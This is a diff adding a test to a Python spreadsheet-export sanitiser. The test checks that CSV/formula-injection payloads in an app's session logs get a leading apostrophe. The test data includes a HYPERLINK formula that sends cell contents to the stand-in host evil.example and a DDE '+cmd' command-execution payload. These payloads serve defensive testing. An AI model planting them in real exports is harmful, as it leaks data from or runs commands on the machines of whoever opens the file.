@@ -211,3 +211,22 @@ def test_spreadsheet_safe_neutralises_every_formula_start() -> None:
     for dangerous in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
         assert spreadsheet_safe(dangerous) == "'" + dangerous
     assert spreadsheet_safe("Anatol, two things") == "Anatol, two things"
+
+
+def test_formulas_are_neutralised_in_every_text_column_even_behind_spaces() -> None:
+    payloads = ('=HYPERLINK("http://evil.example/?x="&A2,"y")', "+cmd|' /C calc'!A0", "  =1+1")
+    for payload in payloads:
+        session = SessionSummary("s1", payload, "2026-11-28T20:00:00.00Z", None, 1, 0, 0)
+        events = [
+            Event(1, "2026-11-28T20:00:01.00Z", "roleplay.start", {"as": "kissinger"}),
+            Event(2, "2026-11-28T20:00:04.00Z", "line", {"text": payload, "position": None}),
+            Event(
+                3,
+                "2026-11-28T20:00:05.00Z",
+                "reply",
+                {"query": payload, "status": "no_match", "score": None, "matches": []},
+            ),
+        ]
+        [row] = rows_of(events, session)
+        assert (row["student"], row["line"]) == ("'" + payload, "'" + payload)
+    assert spreadsheet_safe(-0.05) == -0.05  # numbers stay numbers
